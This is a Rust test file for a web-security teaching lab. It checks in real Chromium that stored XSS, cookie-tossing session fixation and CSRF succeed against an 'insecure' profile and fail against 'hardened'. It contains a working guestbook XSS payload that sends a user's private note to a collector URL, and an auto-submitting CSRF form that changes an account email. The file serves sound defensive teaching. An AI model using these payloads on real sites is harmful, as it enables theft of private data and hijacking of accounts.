//! alice in real Chromium: a guestbook payload this test writes itself (not
//! the lab's own exfiltration program) runs in her browser, carries her
//! private note to the student's collector, and the server marks hijack-xss
//! solved; against hardened the same entry stays text and nothing is solved.
//! A cookie tossed from the sibling host fixes her session; a CSRF page on
//! the cross-site host changes her address, against insecure only.
//!
//! Needs Debian's `chromium`. Without it the test says so and passes, unless
//! `SESSIONLAB_REQUIRE_CHROMIUM=1` (set by `.ci/run`), where it fails.

mod common;

use common::{Student, chromium_missing, class, form_token, note_of, set_cookie_pair};
use reqwest::StatusCode;
use sessionlab_app::{Defense, Profile, ProfileName};
use sessionlab_classroom::BotBrowser;

/// Logs in as bob and signs the guestbook with `message`; the app's answer.
async fn sign_guestbook(student: &Student, message: &str) -> StatusCode {
    let (answer, anonymous) = student.log_in("bob", "builder").await;
    assert_eq!(answer.status(), StatusCode::SEE_OTHER, "bob logs in");
    let cookie = set_cookie_pair(&answer).unwrap_or(anonymous);
    // The guestbook form's token, where the profile has one.
    let page = student
        .client
        .get(student.app("/guestbook"))
        .header("cookie", &cookie)
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let token = form_token(&page);
    student
        .client
        .post(student.app("/guestbook"))
        .header("cookie", &cookie)
        .header("origin", student.app_origin())
        .form(&[("message", message), ("csrf_token", token.as_str())])
        .send()
        .await
        .unwrap()
        .status()
}

/// Not the lab's program: it reads the account page itself and sends the
/// note, not the cookie, to the collector as an image's address.
fn payload(student: &Student) -> String {
    format!(
        "Lovely lab! <script>fetch('/account').then(r => r.text()).then(page => {{ \
         const at = page.indexOf('private note'); \
         new Image().src = '{}' + encodeURIComponent(page.slice(at, at + 60)); }});</script>",
        student.cross_site("/steal?n=")
    )
}

async fn xss_solved(profile: ProfileName) -> (bool, bool, String) {
    let class = class(profile, BotBrowser::Chromium).await;
    let student = Student::sign_in(&class, "ann").await;
    let status = sign_guestbook(&student, &payload(&student)).await;
    assert!(status.is_redirection(), "the entry is stored ({status})");
    student.send_alice(false).await;
    // The image request may still be on its way when the visit's last step ends.
    let lab = class.class.lab("ann").unwrap();
    let note = note_of(&class, "ann");
    let mut received = false;
    for _ in 0..50 {
        received = lab.site.log().iter().any(|hit| {
            hit.request
                .target
                .contains(&note.replace(' ', "%20").replace('#', "%23"))
        });
        if received {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    let solved = student.solved("hijack-xss").await;
    let page = student.hub_get("/lab").await;
    class.shutdown().await;
    (received, solved, page)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_guestbook_payload_of_the_students_own_steals_the_note_from_insecure_only() {
    if chromium_missing() {
        return;
    }
    let (received, solved, page) = xss_solved(ProfileName::Insecure).await;
    assert!(
        page.contains("(chromium browser)"),
        "alice used Chromium: {page}"
    );
    assert!(received, "the collector received alice's note: {page}");
    assert!(solved, "hijack-xss solved against insecure");
    let (received, solved, page) = xss_solved(ProfileName::Hardened).await;
    assert!(
        page.contains("logged in and read her account"),
        "alice visited: {page}"
    );
    assert!(
        !received && !solved,
        "hardened: nothing reached the collector, nothing solved"
    );
}

/// Cookie tossing in real Chromium: the student's sibling host sets
/// `Domain=LABEL.localhost`, which Chromium accepts because `LABEL.localhost`
/// is a registrable domain (docs/classroom.md, "Host names"), and the app
/// adopts the tossed ID, which it never issued, and keeps it at alice's
/// login: fixation-invented (an issued ID tossed is fixation-cookie,
/// `tests/hands_on.rs`).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_cookie_tossed_from_the_sibling_host_fixes_alices_session_in_insecure() {
    if chromium_missing() {
        return;
    }
    let class = class(ProfileName::Insecure, BotBrowser::Chromium).await;
    let student = Student::sign_in(&class, "ann").await;
    let invented =
        sessionlab_attack::scenarios::hijack_predict::encode_id(rand::random::<i64>().into());
    student.toss_to_alice(&format!("sid={invented}")).await;
    student.send_alice(true).await;
    let (_, body, _) = student
        .app_get("/account", Some(&format!("sid={invented}")))
        .await;
    let page = student.hub_get("/lab").await;
    assert!(page.contains("(chromium browser)"), "{page}");
    assert!(
        body.contains(&note_of(&class, "ann")),
        "the tossed ID opens alice's account: {page}"
    );
    assert!(student.solved("fixation-invented").await);
    assert!(!student.solved("fixation-cookie").await);
    class.shutdown().await;
}

/// The student's CSRF page on their cross-site host, sent to alice in bob's
/// message; alice (real Chromium) opens it again once logged in, as the bot
/// does. What alice's account now says, whether csrf is solved, the lab page.
async fn csrf_in_chromium(profile: Profile) -> (Option<String>, bool, String) {
    let mut config = common::config(ProfileName::Insecure, BotBrowser::Chromium);
    config.profile = profile;
    let class = common::start_class(config).await;
    let student = Student::sign_in(&class, "ann").await;
    let address = format!("ann-{}@evil.test", rand::random::<u32>());
    // Written by hand, as a student would: a form that posts itself on arrival.
    let page = format!(
        "<!DOCTYPE html><title>You won!</title><form method=\"POST\" action=\"{}\">\
         <input type=\"hidden\" name=\"email\" value=\"{address}\"></form>\
         <script>document.forms[0].submit()</script>",
        student.app("/account/email")
    );
    let saved = student
        .hub_post("/lab/page", &[("html", page.as_str())])
        .await;
    assert_eq!(saved.status(), StatusCode::SEE_OTHER);
    student.message_alice(&student.cross_site("/")).await;
    student.send_alice(false).await;
    let email = class.class.lab("ann").unwrap().app.handle.email("alice");
    let changed = email.as_deref() == Some(address.as_str());
    let solved = student.solved("csrf").await;
    let page = student.hub_get("/lab").await;
    assert!(
        page.contains("(chromium browser)"),
        "alice used Chromium: {page}"
    );
    assert!(
        page.contains("opened bob&#39;s link again, logged in this time"),
        "alice opened the page logged in: {page}"
    );
    class.shutdown().await;
    (changed.then_some(address), solved, page)
}

/// CSRF in real Chromium: against insecure (no SameSite attribute; Chromium
/// sends a cookie under two minutes old with a cross-site top-level POST) the
/// student's page changes alice's address and the server marks csrf solved.
/// The same page fails where only Chromium's cookie rule stops it
/// (`insecure --with same-site-strict`) and against hardened.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_csrf_page_of_the_students_own_changes_alices_address_in_insecure_only() {
    if chromium_missing() {
        return;
    }
    let (changed, solved, page) = csrf_in_chromium(Profile::new(ProfileName::Insecure)).await;
    assert!(
        changed.is_some(),
        "alice's address is the student's: {page}"
    );
    assert!(solved, "csrf solved against insecure: {page}");
    let strict = Profile::new(ProfileName::Insecure).with(Defense::SameSiteStrict);
    let (changed, solved, page) = csrf_in_chromium(strict).await;
    assert!(
        changed.is_none() && !solved,
        "SameSite=Strict: Chromium sent no cookie, nothing changed: {page}"
    );
    let (changed, solved, page) = csrf_in_chromium(Profile::new(ProfileName::Hardened)).await;
    assert!(
        changed.is_none() && !solved,
        "hardened: nothing changed: {page}"
    );
}
